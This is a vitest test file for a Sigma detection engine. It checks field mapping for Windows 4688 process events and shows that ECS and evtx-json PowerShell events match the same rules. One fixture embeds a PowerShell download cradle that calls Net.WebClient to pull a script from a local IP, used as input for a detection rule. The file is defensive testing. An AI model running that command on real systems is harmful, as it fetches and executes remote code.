import { describe, expect, it } from "vitest";
import { readRuleSources } from "../rulesets/files";
import { compileSources } from "../sigma/load";
import { SigmaEngine } from "../sigma/engine";

const rulesDir = process.env.SIGMA_RULES_DIR;

const fire = (ruleYaml: string, events: unknown[]): number[] => {
  const loaded = compileSources([{ file: "t.yml", text: ruleYaml }]);
  expect(loaded.failures).toEqual([]);
  return new SigmaEngine(loaded.rules).run(events).matches.map((m) => m.event);
};

const rule = (logsource: string, detection: string) =>
  `title: t\nlogsource:\n${logsource}\ndetection:\n${detection}\n`;

const sec4688 = (data: Record<string, string>) => ({
  Event: {
    System: {
      Provider: { "#attributes": { Name: "Microsoft-Windows-Security-Auditing" } },
      EventID: 4688,
      Channel: "Security",
      Computer: "WS01.corp.local",
    },
    EventData: {
      SubjectUserSid: "S-1-5-21-1-2-3-1104",
      SubjectUserName: "alice",
      SubjectDomainName: "CORP",
      SubjectLogonId: "0x3e7a1",
      NewProcessId: "0x1a2c",
      NewProcessName: "C:\\Windows\\System32\\whoami.exe",
      TokenElevationType: "%%1938",
      ProcessId: "0x0f10",
      CommandLine: "whoami /priv",
      TargetUserSid: "S-1-0-0",
      TargetUserName: "-",
      TargetDomainName: "-",
      TargetLogonId: "0x0",
      ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
      MandatoryLabel: "S-1-16-12288",
      ...data,
    },
  },
});

describe("Security 4688 seen as process_creation", () => {
  const proc = "  category: process_creation\n  product: windows";

  it("maps IntegrityLevel names and SIDs from MandatoryLabel, keeping the raw field", () => {
    const events = [sec4688({}), sec4688({ MandatoryLabel: "S-1-16-8192" })];
    expect(fire(rule(proc, "  sel:\n    IntegrityLevel: High\n  condition: sel"), events)).toEqual([0]);
    expect(fire(rule(proc, "  sel:\n    IntegrityLevel: S-1-16-12288\n  condition: sel"), events)).toEqual([
      0,
    ]);
    const raw = rule(
      "  product: windows\n  service: security",
      "  sel:\n    MandatoryLabel: S-1-16-8192\n  condition: sel",
    );
    expect(fire(raw, events)).toEqual([1]);
  });

  it("gives User as DOMAIN\\name of the new process's account, with well-known SIDs spelled as Sysmon does", () => {
    const events = [
      sec4688({}),
      sec4688({ SubjectUserSid: "S-1-5-18", SubjectUserName: "WS01$", SubjectDomainName: "CORP" }),
      sec4688({ TargetUserSid: "S-1-5-21-1-2-3-1105", TargetUserName: "bob", TargetDomainName: "CORP" }),
    ];
    expect(fire(rule(proc, "  sel:\n    User: 'CORP\\alice'\n  condition: sel"), events)).toEqual([0]);
    expect(fire(rule(proc, "  sel:\n    User|contains: 'AUTHORI'\n  condition: sel"), events)).toEqual([1]);
    expect(fire(rule(proc, "  sel:\n    User|endswith: '\\bob'\n  condition: sel"), events)).toEqual([2]);
    expect(
      fire(rule(proc, "  sel:\n    ParentImage|endswith: '\\cmd.exe'\n  condition: sel"), events),
    ).toEqual([0, 1, 2]);
  });
});

const ecsClassic = (eventId: number, params: string[]) => ({
  "@timestamp": "2026-03-01T10:00:00.000Z",
  event: { code: String(eventId), module: "powershell" },
  winlog: {
    channel: "Windows PowerShell",
    event_id: String(eventId),
    provider_name: "PowerShell",
    event_data: Object.fromEntries(params.map((p, i) => [`param${i + 1}`, p])),
  },
});

const evtxClassic = (eventId: number, params: string[]) => ({
  Event: {
    System: {
      Provider: { "#attributes": { Name: "PowerShell" } },
      EventID: eventId,
      Channel: "Windows PowerShell",
    },
    EventData: { Data: { "#text": params } },
  },
});

describe("ECS events read like evtx-json", () => {
  const details =
    "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\tHostName=ConsoleHost\r\n" +
    "\tHostApplication=powershell.exe -nop -c (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\r\n";

  it("treats winlog.event_data.param1…N as the unnamed Data values", () => {
    const r = rule(
      "  product: windows\n  category: ps_classic_start",
      "  sel:\n    Data|contains: 'Net.WebClient'\n  state:\n    Data: Available\n  condition: sel and state",
    );
    expect(
      fire(r, [
        ecsClassic(400, ["Available", "None", details]),
        evtxClassic(400, ["Available", "None", details]),
      ]),
    ).toEqual([0, 1]);
  });

  it("reads winlog.user_data (Security 1102 log cleared)", () => {
    const cleared = {
      "@timestamp": "2026-03-01T10:00:00.000Z",
      winlog: {
        channel: "Security",
        event_id: "1102",
        provider_name: "Microsoft-Windows-Eventlog",
        user_data: { SubjectUserName: "mallory", SubjectDomainName: "CORP", xml_name: "LogFileCleared" },
      },
    };
    const r = rule(
      "  product: windows\n  service: security",
      "  sel:\n    EventID: 1102\n    SubjectUserName: mallory\n  condition: sel",
    );
    expect(fire(r, [cleared])).toEqual([0]);
  });

  it.skipIf(!rulesDir)("SigmaHQ's posh_pc rules fire the same on ECS and evtx-json", () => {
    const { sources } = readRuleSources(`${rulesDir}/windows/powershell/powershell_classic`);
    const engine = new SigmaEngine(compileSources(sources).rules);
    const params = ["Available", "None", details];
    const titles = (e: unknown) =>
      engine
        .run([e])
        .matches.map((m) => m.rule.title)
        .sort();
    const fromEvtx = titles(evtxClassic(400, params));
    expect(fromEvtx).toContain("PowerShell Download Via Net.WebClient - PowerShell Classic");
    expect(titles(ecsClassic(400, params))).toEqual(fromEvtx);
  });
});
